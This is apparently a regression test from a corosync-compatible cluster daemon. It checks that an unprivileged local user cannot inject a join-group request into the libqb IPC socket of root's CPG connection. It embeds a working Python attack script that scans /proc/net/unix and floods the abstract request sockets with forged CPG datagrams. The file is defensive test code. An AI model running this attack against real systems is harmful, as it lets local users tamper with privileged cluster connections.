import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import t from 'tap';
import { skipReason } from '../interop/lab/cases.ts';
import { Lab } from '../interop/lab/lab.ts';
import { GRANTS, STRANGER } from './attacker.ts';

// `qb_ipc_type: socket`: a local user without any right sends a request to the socket of root's connection, before it has sent one itself.

/** Not one of root's own places: the stranger runs it, too. */
const PYTHON = '/usr/bin/python3';
const GROUP = 'of-a-stranger';
/** Root's program: connects to cpg, waits, goes. */
const VICTIM = `
import ctypes, sys, time
library = ctypes.CDLL('libcpg.so.4')
handle = ctypes.c_uint64()
callbacks = (ctypes.c_void_p * 4)()
status = library.cpg_initialize(ctypes.byref(handle), callbacks)
print('connected', status, flush=True)
sys.stdin.read()
`;
/** The stranger: the request to join a group, to every socket of requests that there is. */
const ATTACK = `
import os, socket, struct, time
name = b'${GROUP}'
request = struct.pack('<i4xi4xI4x128sI4xI4x', 0, 168, len(name), name, 4242, 0)
sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
sender.setblocking(False)
sent = 0
end = time.time() + 2
while time.time() < end:
    for line in open('/proc/net/unix'):
        at = line.find('@')
        if at < 0 or '-request' not in line: continue
        try:
            sender.sendto(request, (b'\\0' + line[at + 1:line.index('-request') + 8].encode()).ljust(108, b'\\0'))
            sent += 1
        except OSError: pass
    time.sleep(0.01)
print('sent', sent)
`;

const skip = skipReason(['ours', 'stock']) || (!existsSync(PYTHON) && 'python3 is not installed');

t.test('requests of a stranger to the sockets of a connection of root', { skip }, async (t) => {
  const lab = await Lab.create({ transport: 'udpu', extra: GRANTS, system: ['qb_ipc_type: socket', 'sched_rr: no'] }, [
    'ours',
    'stock',
  ]);
  t.teardown(() => lab.close());
  for (const node of lab.nodes) node.startDaemon();
  await lab.waitRing(lab.nodes);
  for (const node of lab.nodes) {
    const directory = join(node.space.directory, 'run');
    for (const [name, text] of [
      ['victim.py', VICTIM],
      ['attack.py', ATTACK],
    ] as const)
      writeFileSync(join(directory, name), text, { mode: 0o644 });
    const victim = node.space.start(PYTHON, ['/run/victim.py']);
    await victim.waitFor(/connected 1/);
    const as = [`--reuid=${STRANGER}`, `--regid=${STRANGER}`, '--clear-groups'];
    const { stdout } = await node.space.run('setpriv', [...as, PYTHON, '/run/attack.py'], { timeoutMs: 30_000 });
    t.match(stdout, /^sent [1-9]/, `${node.kind}: the attack reached sockets`);
    const groups = (await node.tool('corosync-cpgtool')).stdout;
    t.comment(
      `${node.kind}: ${stdout.trim()}; ${groups.includes(GROUP) ? 'root’s program is in his group' : 'nothing'}`,
    );
    if (node.kind === 'ours') t.notMatch(groups, GROUP, 'nobody joined for root');
    t.ok(node.daemon?.alive, `${node.kind} lives`);
    victim.child.stdin?.end();
    await victim.exited;
  }
});
